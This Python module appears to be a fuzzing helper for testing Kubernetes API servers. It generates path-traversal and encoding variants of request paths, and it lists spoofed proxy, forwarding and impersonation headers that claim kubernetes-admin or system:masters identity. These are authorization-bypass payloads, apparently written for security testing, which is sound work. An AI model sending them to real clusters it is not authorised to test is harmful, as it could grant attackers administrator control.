"""Other ways to write the same path, and headers that some server, somewhere, believes."""

import random
import re
from collections.abc import Callable

_PUBLIC = ("/healthz", "/livez", "/readyz", "/version")
_SLASHES = (
    "//",
    "/./",
    "/x/../",
    "/%2e/",
    "/x/%2e%2e/",
    "/..;/",
    "/;/",
    "%2f",
    "%252f",
    "/%2f",
    "\\",
)
_TAILS = (
    *("/", "//", "/.", "/..", "/%2e", "%20", "%00", "%0a", "%09", ";", ";a=b", ".json", "~", "#x"),
    *("?", "/?x", "%3f", "/status/..", "/%2e%2e/marker", "*", "%ff", "\u00e9"),
)
_HEADS = (
    *("", "//", "/.", "/..", "\\", "http://localhost", "https://127.0.0.1:1", "//localhost"),
    *("/api/../", "/apis/..", "/./", "/%2e", "/api/v1/../..", "*"),
    *(f"{page}{way}" for page in _PUBLIC for way in ("/..", "/../..", "/%2e%2e", "/..;", "/.", "")),
    *("/healthz/..%2f", "/healthz;/..", "/openid/v1/jwks/../../..", "/api/v1/namespaces/x/.."),
)


def detour(path: str, draw: random.Random) -> str:
    """The path, written in another way that some server takes for the same."""
    for _ in range(draw.choice((1, 1, 2, 3))):
        match draw.randrange(8):
            case 0 | 1:
                path = _one_slash(path, draw.choice(_SLASHES), draw)
            case 2:
                path += draw.choice(_TAILS)
            case 3 | 4:
                path = draw.choice(_HEADS) + path
            case 5:
                path = _one_letter(path, str.upper, draw)
            case 6:
                path = _one_letter(path, lambda letter: f"%{ord(letter):02x}", draw)
            case _:
                path = path.replace("/api/v1/", draw.choice(_PREFIXES), 1)
    # The request line must stay one line; it is sent as UTF-8.
    return re.sub(r"[\r\n ]", "", path) or "/"


_PREFIXES = ("/api/v1/watch/", "/API/v1/", "/api/V1/", "/apis/v1/", "/api/v1/proxy/", "/api//v1/")


def _one_slash(path: str, instead: str, draw: random.Random) -> str:
    places = [index for index, letter in enumerate(path) if letter == "/"]
    if not places:
        return path
    place = draw.choice(places)
    return path[:place] + instead + path[place + 1 :]


def _one_letter(path: str, change: Callable[[str], str], draw: random.Random) -> str:
    places = [index for index, letter in enumerate(path) if letter.isascii() and letter.isalpha()]
    if not places:
        return path
    place = draw.choice(places)
    return path[:place] + change(path[place]) + path[place + 1 :]


# Who one is, by the word of a proxy; what one does, by another header; as whom.
CLAIMS: tuple[dict[str, str], ...] = (
    {"X-Remote-User": "kubernetes-admin", "X-Remote-Group": "system:masters"},
    {"X-Forwarded-User": "kubernetes-admin"},
    {"X-Forwarded-For": "127.0.0.1", "X-Real-Ip": "127.0.0.1"},
    {"Forwarded": "for=127.0.0.1;proto=https"},
    {"X-Original-Url": "/healthz"},
    {"X-Rewrite-Url": "/healthz"},
    {"X-Http-Method-Override": "GET"},
    {"X-Http-Method": "GET"},
    {"X-Method-Override": "GET"},
    {"Cookie": "token=x; session=system:masters"},
    {"Proxy-Authorization": "Bearer x"},
    {"Impersonate-User": "kubernetes-admin"},
    {"Impersonate-User": "kubernetes-admin", "Impersonate-Group": "system:masters"},
    {"impersonate-group": "system:masters"},
    {"Impersonate-Uid": "1"},
    {"Impersonate-Extra-Scopes": "all"},
    {"Impersonate-User": "system:serviceaccount:attacked:mighty"},
    {"Impersonate-User": "system:node:n1", "Impersonate-Group": "system:nodes"},
    {"Impersonate-User": "", "Impersonate-Group": "system:masters"},
    {"Impersonate-User": "nothing", "Impersonate-Group": "system:masters,system:authenticated"},
    {"Sec-Websocket-Protocol": "base64url.bearer.authorization.k8s.io.eA, v4.channel.k8s.io"},
    {"Upgrade": "websocket", "Connection": "Upgrade"},
)
